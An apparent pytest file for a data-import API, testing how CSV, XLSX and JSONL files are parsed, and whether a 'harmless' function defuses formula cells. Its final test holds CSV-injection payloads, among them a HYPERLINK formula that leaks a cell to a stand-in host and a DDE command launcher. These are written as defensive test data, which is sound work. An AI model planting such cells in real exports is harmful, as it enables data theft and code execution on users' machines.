"""Inputs of public reports about other programs, read here as their users expected."""

import pytest

from api.csvcells import harmless
from tests.api.batches.sheets import book, sheet
from tests.api.batches.test_reading import Rows, read, refusal


@pytest.mark.parametrize(
    ("data", "columns", "rows"),
    [
        pytest.param(b"A|B|C|\n1|2|3|\n", ["A", "B", "C"], [["1", "2", "3"]], id="deephaven/deephaven-core#1800"),
        pytest.param(b"a,b,c,\n1,2,3\n", ["a", "b", "c"], [["1", "2", "3"]], id="fsprojects/FSharp.Data#688"),
        pytest.param(b"a,b, \n1,2, \n3,4, ", ["a", "b"], [["1", "2"], ["3", "4"]], id="adaltas/node-csv-parse#120"),
        pytest.param(b"a,b,,,\n1,2,,,\n", ["a", "b"], [["1", "2"]], id="OpenDataRepository/data-publisher#84"),
        pytest.param(
            b",,\n,email,name\n,a@b,Ann\n", ["", "email", "name"], [["", "a@b", "Ann"]], id="pcreux/csv-importer#54"
        ),
        pytest.param(b"\xef\xbb\xbfa,b,\n1,2,\n", ["a", "b"], [["1", "2"]], id="mldbai/mldb#365"),
    ],
)
def test_csv_with_separators_at_the_ends_is_its_table(data: bytes, columns: list[str], rows: Rows) -> None:
    assert read(data)[:2] == (columns, rows)
    assert not read(data)[3]


def test_a_short_row_is_a_problem_with_its_line() -> None:
    """mautic/mautic#610: such rows were passed over without a word."""
    _, rows, _, problems = read(b"firstname,email,note\nann,a@b,\nbob,b@c\n")
    assert rows == [["ann", "a@b", ""]]
    assert problems == [(3, "The first row names 3 columns; this row has 2.")]


@pytest.mark.parametrize(
    ("number_format", "value", "shown"),
    [
        pytest.param("0000000", "123", "0000123", id="tidyverse/readxl#389"),
        pytest.param("00000", "2035", "02035", id="tealeg/xlsx#623"),
        pytest.param("00000", "6791", "06791", id="shuchkin/simplexlsx#97"),
        pytest.param("00000-0000", "21380001", "02138-0001", id="pandas-dev/pandas#46895"),
    ],
)
def test_leading_zeros_of_a_format_are_read(number_format: str, value: str, shown: str) -> None:
    head = '<row r="1"><c r="A1" t="inlineStr"><is><t>id</t></is></c></row>'
    cell = f'<row r="2"><c r="A2" s="1"><v>{value}</v></c></row>'
    assert read(book({"S": sheet(head + cell)}, formats=[number_format]), "a.xlsx")[1] == [[shown]]


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b'{\n  "id": 1,\n  "text": "x"\n}\n', id="opentargets/issues#211"),
        pytest.param(b'[{"id": 1, "text": "x"}]', id="pkiraly/metadata-qa-api#184"),
        pytest.param(b'{"id": 1},\n{"id": 2},\n', id="farling42/obsidian-import-json#39"),
        pytest.param(b"{'id': 1}\n", id="quotes of Python"),
    ],
)
def test_json_that_is_no_jsonl_is_told_what_jsonl_is(data: bytes) -> None:
    assert "one whole JSON object on each line" in refusal(data, "a.jsonl")


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        pytest.param("-123", "-123", id="ONSdigital/dis-wagtail#621"),
        pytest.param("-0.02", "-0.02", id="hhurz/tableExport.jquery.plugin#296"),
        pytest.param('=HYPERLINK("https://e.test?d="&A1,"x")', "'=HYPERLINK(", id="calcom/cal.diy#29844"),
        pytest.param("=cmd|' /C calc'!A0", "'=cmd|", id="hhurz/tableExport.jquery.plugin#230"),
        pytest.param("\t=1+1", "'\t=1+1", id="brightdata/sdk-python#52"),
    ],
)
def test_numbers_stay_and_formulas_do_not(cell: str, written: str) -> None:
    assert harmless(cell).startswith(written)
